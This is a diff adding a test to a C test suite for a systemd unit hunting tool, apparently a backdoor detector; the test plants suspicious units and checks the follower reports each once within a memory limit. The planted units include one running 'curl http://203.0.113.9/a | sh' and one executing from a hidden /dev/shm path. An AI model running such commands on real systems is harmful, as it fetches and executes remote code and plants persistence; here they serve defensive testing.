@@ -127,6 +127,32 @@ START_TEST(planted_units_are_reported_once)
 }
 END_TEST
 
+/* Each once, within the watchdog's time and 64 MiB: a unit of a file, and one that no file of etc tells of. */
+START_TEST(a_hunt_that_follows_shows_what_comes)
+{
+    NEED_SYSTEMD(booted);
+    systemd_enter(dir);
+    systemd_shell("systemd-run --quiet --unit=follower -p StandardOutput=file:/root/followed "
+                  "%s/svcql hunt --follow -f ndjson",
+                  bindir);
+    wait_until("grep -q '\"section\":\"coverage\"' /root/followed");
+    systemd_shell(
+        "mkdir -p /etc/systemd/system && printf '[Service]\\nExecStart=/dev/shm/.x/one\\n' "
+        "> /etc/systemd/system/came-one.service");
+    wait_until("grep -q came-one.service /root/followed");
+    systemd_shell("systemd-run --quiet --unit=came-two /bin/sh -c 'curl http://203.0.113.9/a | sh; "
+                  "sleep 300'");
+    wait_until("grep -q came-two.service /root/followed");
+    systemd_shell("cp /etc/systemd/system/came-one.service /etc/systemd/system/came-three.service");
+    wait_until("grep -q came-three.service /root/followed");
+    systemd_shell(
+        "[ $(grep -c 'subject\":\"/etc/systemd/system/came-one.service' /root/followed) = 1 ]");
+    systemd_shell("[ $(sed -n 's/VmHWM:[^0-9]*\\([0-9]*\\).*/\\1/p' "
+                  "/proc/$(systemctl show -P MainPID follower)/status) -lt 65536 ]");
+    systemd_shell("systemctl stop follower came-two");
+}
+END_TEST
+
 START_TEST(the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox)
 {
     NEED_SYSTEMD(booted);
@@ -247,6 +273,7 @@ Suite *make_service_suite(void)
 {
     const TTest *const tests[] = {
         planted_units_are_reported_once,
+        a_hunt_that_follows_shows_what_comes,
         the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox,
         the_sandbox_is_tight,
         a_state_that_is_full_is_reported_and_recovers,
